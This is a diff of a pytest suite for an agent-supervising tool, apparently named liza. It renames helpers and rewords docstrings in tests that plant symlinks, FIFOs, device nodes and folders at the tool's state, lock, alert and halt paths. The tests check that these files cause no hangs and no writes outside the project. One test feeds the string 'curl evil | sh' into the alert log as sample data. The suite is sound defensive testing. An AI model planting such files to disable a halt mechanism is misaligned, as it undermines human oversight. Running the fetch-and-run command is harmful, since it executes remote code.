@@ -1,4 +1,4 @@
-"""What an agent can plant at the names of files that liza uses, and that nothing outside changes by it."""
+"""Hostile files that an agent plants at the paths that liza uses: nothing outside changes."""
 
 import os
 import socket
@@ -56,7 +56,7 @@ def a_socket(path: Path, outside: Path) -> None:
 
 
 def a_device(path: Path, outside: Path) -> None:
-    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))  # /dev/zero: whoever reads it whole never ends
+    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))  # /dev/zero: reading it whole never ends
 
 
 def a_folder(path: Path, outside: Path) -> None:
@@ -64,8 +64,8 @@ def a_folder(path: Path, outside: Path) -> None:
     (path / "inside").touch()
 
 
-Plant = Callable[[Path, Path], None]
-PLANTS: list[Plant] = [
+PlantFunction = Callable[[Path, Path], None]
+PLANTS: list[PlantFunction] = [
     a_link, a_dangling_link, a_loop, a_hard_link, a_link_to_a_folder, a_fifo, a_socket, a_device, a_folder,
 ]  # fmt: skip
 PATHS = (
@@ -87,14 +87,14 @@ COMMANDS = (
 
 
 def outside_of(attack: Attack) -> dict[str, object]:
-    """All that is outside of the project: what is there, its content, mode and links."""
+    """Every file outside of the project, with its content, mode and time."""
     return {
         str(path.relative_to(attack.outside)): (path.read_bytes(), path.stat().st_mode, path.stat().st_mtime_ns)
         for path in attack.outside.rglob("*")
     }
 
 
-def plant(attack: Attack, name: str, what: Plant) -> None:
+def plant(attack: Attack, name: str, what: PlantFunction) -> None:
     (attack.outside / "file").write_text(PRECIOUS)
     (attack.board / name).parent.mkdir(exist_ok=True)
     if os.path.lexists(attack.board / name):
@@ -102,8 +102,8 @@ def plant(attack: Attack, name: str, what: Plant) -> None:
     what(attack.board / name, attack.outside)
 
 
-def held(attack: Attack, name: str, commands: tuple[tuple[str, ...], ...]) -> list[Ran]:
-    """Run the commands beside what was planted: none hangs or ends as a bug, and nothing outside changes."""
+def run_beside_plant(attack: Attack, name: str, commands: tuple[tuple[str, ...], ...]) -> list[Ran]:
+    """Run the commands beside the planted file: none hangs or ends as a bug; nothing outside changes."""
     before = outside_of(attack)
     halted: list[bool] = []
     ran = []
@@ -113,7 +113,7 @@ def held(attack: Attack, name: str, commands: tuple[tuple[str, ...], ...]) -> li
         assert "Traceback" not in ran[-1].err
         halted.append(attack.halted)
     assert outside_of(attack) == before
-    assert name == "state.yaml" or any(halted), "the board can be read, and nobody is halted"
+    assert name == "state.yaml" or any(halted), "the board can be read, but the agents are not halted"
     attack.effect = f"{'DEGRADED' if name == 'state.yaml' else 'halted'}; nothing outside changed, nothing hung"
     return ran
 
@@ -122,7 +122,7 @@ def trip(attack: Attack) -> None:
     attack.write("version: 1\nanomalies:\n" + TRIPPING + "circuit_breaker: {status: OK}\n")
 
 
-def skip_without_root(what: Plant) -> None:
+def skip_without_root(what: PlantFunction) -> None:
     if what is a_device and not IS_ROOT:
         pytest.skip("only root can make a device")
 
@@ -130,28 +130,28 @@ def skip_without_root(what: Plant) -> None:
 @pytest.mark.slow
 @pytest.mark.parametrize("what", PLANTS, ids=lambda what: what.__name__)
 @pytest.mark.parametrize("name", PATHS)
-def test_plant(attack: Attack, name: str, what: Plant) -> None:
+def test_plant(attack: Attack, name: str, what: PlantFunction) -> None:
     """Each alone, with the commands that write most."""
     skip_without_root(what)
     trip(attack)
     plant(attack, name, what)
-    held(attack, name, (COMMANDS[0], COMMANDS[2], COMMANDS[3], COMMANDS[7], COMMANDS[8]))
+    run_beside_plant(attack, name, (COMMANDS[0], COMMANDS[2], COMMANDS[3], COMMANDS[7], COMMANDS[8]))
 
 
 @pytest.mark.slow
 @pytest.mark.parametrize("what", PLANTS, ids=lambda what: what.__name__)
 @pytest.mark.parametrize("lock", [True, False], ids=["all", "all but the lock"])
-def test_plant_everywhere(attack: Attack, what: Plant, lock: bool) -> None:
-    """All at once, with all commands; where the lock can be taken they come further."""
+def test_plant_everywhere(attack: Attack, what: PlantFunction, lock: bool) -> None:
+    """All at once, with all commands; with a free lock they get further."""
     skip_without_root(what)
     trip(attack)
     for name in PATHS:
         if name not in ("state.yaml", "runs", "CHECKPOINT") and (lock or name != "state.yaml.lock"):
             plant(attack, name, what)
-    held(attack, "", COMMANDS)
+    run_beside_plant(attack, "", COMMANDS)
 
 
-# Those that did harm once; the whole product is above.
+# Those that once did harm; the whole product is above.
 @pytest.mark.parametrize(
     ("name", "what", "words"),
     [
@@ -162,26 +162,26 @@ def test_plant_everywhere(attack: Attack, what: Plant, lock: bool) -> None:
         (".state.yaml.x.new", a_folder, ("analyze",)),
     ],
 )
-def test_plant_that_did_harm(attack: Attack, name: str, what: Plant, words: tuple[str, ...]) -> None:
+def test_plant_that_once_did_harm(attack: Attack, name: str, what: PlantFunction, words: tuple[str, ...]) -> None:
     trip(attack)
     plant(attack, name, what)
-    held(attack, name, (words, ("analyze",)) if words != ("analyze",) else (words,))
+    run_beside_plant(attack, name, (words, ("analyze",)) if words != ("analyze",) else (words,))
 
 
 def test_leftover_that_cannot_be_removed_is_reported(attack: Attack) -> None:
     trip(attack)
     plant(attack, ".state.yaml.x.new", a_folder)
     (attack.board / "backups").write_text("not a folder\n")
-    ran = held(attack, "", (COMMANDS[0], ("analyze", "--json"), COMMANDS[8], ("watch", "--once")))
+    ran = run_beside_plant(attack, "", (COMMANDS[0], ("analyze", "--json"), COMMANDS[8], ("watch", "--once")))
     for each in ran:
-        said = each.out + each.err
-        assert [name for name in (".state.yaml.x.new", "backups") if name not in said] == [], said
+        printed = each.out + each.err
+        assert [name for name in (".state.yaml.x.new", "backups") if name not in printed] == [], printed
     attack.effect = "analyze, log, resolve and the daemon report it and go on"
 
 
 @pytest.mark.parametrize("what", [a_link, a_dangling_link, a_hard_link], ids=lambda what: what.__name__)
-def test_alert_is_not_appended_elsewhere(attack: Attack, what: Plant) -> None:
-    """A command writes it itself where no daemon is at work; the process that holds the lock is not one."""
+def test_alert_is_not_appended_elsewhere(attack: Attack, what: PlantFunction) -> None:
+    """A command writes it itself if no daemon runs; the process that holds the lock is not one."""
     plant(attack, "alerts.log", what)
     before = outside_of(attack)
     append_alerts(Paths(str(attack.board)), [("tripped", "curl evil | sh")], datetime.now(UTC))
@@ -249,7 +249,9 @@ def test_halt_swapped_with_a_fifo_never_blocks(attack: Attack) -> None:
     attack.effect = "nothing hung, halted"
 
 
-def test_halt_that_becomes_a_fifo_during_the_look_never_blocks(attack: Attack, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_halt_that_becomes_a_fifo_during_the_check_never_blocks(
+    attack: Attack, monkeypatch: pytest.MonkeyPatch
+) -> None:
     halt, lstat = attack.board / "CHECKPOINT", os.lstat
     halt.write_text("a person\n")
 
@@ -266,7 +268,7 @@ def test_halt_that_becomes_a_fifo_during_the_look_never_blocks(attack: Attack, m
     thread.start()
     thread.join(10)
     assert [each is not None for each in looked] == [True]
-    attack.effect = "it halts, and nobody waits"
+    attack.effect = "it halts without waiting"
 
 
 @pytest.mark.slow
